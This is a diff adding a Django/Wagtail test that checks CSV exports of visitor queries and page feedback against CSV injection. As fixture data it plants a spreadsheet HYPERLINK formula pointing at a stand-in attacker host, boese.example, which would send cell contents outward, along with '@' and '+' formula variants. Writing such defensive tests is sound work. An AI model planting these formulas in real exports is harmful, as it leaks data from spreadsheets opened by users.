@@ -100,6 +100,23 @@ def test_queries_report_exports_csv_and_xlsx(redaktion_client, known_log):
     assert values[1][:5] == ("e-akte", 3, 1, 2, 2)
 
 
+def test_csv_exports_write_formulas_as_text(redaktion_client, make_page):
+    """Visitors type the queries and comments: a spreadsheet must not run them (CSV
+    injection); XLSX is protected by Wagtail itself."""
+    formula = '=HYPERLINK("http://boese.example/?"&A1;"klick")'
+    _log(formula, 0)
+    page = make_page("lesson_learned", title="@SUMME(1;2)")
+    Feedback.objects.create(page=page, helpful=False, comment="+1 " + formula, source="seite",
+                            session_hash="s2")
+    exports = {url: list(csv.reader(io.StringIO(b"".join(
+        redaktion_client.get(url, {"export": "csv"}).streaming_content).decode("utf-8"))))
+        for url in (QUERIES_URL, "/admin/netz/rueckmeldungen/", "/admin/netz/seiten-feedback/")}
+    cells = [cell for rows in exports.values() for row in rows[1:] for cell in row]
+    assert "'" + formula.lower() in cells and "'@SUMME(1;2)" in cells
+    assert "'+1 " + formula in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
+
+
 def test_weekly_chart_figures(known_log):
     figures = weekly_search_figures(timezone.now())
     rows = figures["rows"]
